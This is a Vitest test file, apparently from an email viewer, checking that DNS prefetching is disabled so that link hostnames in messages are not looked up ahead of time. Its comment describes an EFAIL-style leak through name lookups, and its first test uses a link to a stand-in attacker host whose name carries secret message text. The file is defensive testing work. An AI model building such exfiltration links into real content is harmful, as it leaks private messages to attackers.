import { readFileSync } from "node:fs";
import { resolve } from "node:path";
import { describe, expect, it } from "vitest";
import { frameDocument } from "../../src/pages/viewer/frame-document.ts";
import type { InertHtml } from "../../src/pages/viewer/inert-html.ts";

/**
 * EFAIL by name service: a link to a host whose name holds the text of the message tells it to whoever serves that
 * domain, if the browser looks hosts up before anybody clicks. No content security policy stops that.
 */
const OFF = /<meta http-equiv="x-dns-prefetch-control" content="off" ?\/?>/;

describe("hosts of links in a message", () => {
  it("are not looked up in the sandboxed frame", () => {
    const link = '<a href="https://the-secret-text.attacker.example/">read on</a>' as InertHtml;
    const [head = ""] = frameDocument(link).split("<body");
    expect(head).toMatch(OFF);
  });

  it("are not looked up in the viewer's own document, where plain text has its links", () => {
    const [head = ""] = readFileSync(resolve("src/pages/viewer/index.html"), "utf8").split("<body>");
    expect(head).toMatch(OFF);
    expect(head.search(OFF)).toBeLessThan(head.indexOf("<script"));
  });
});
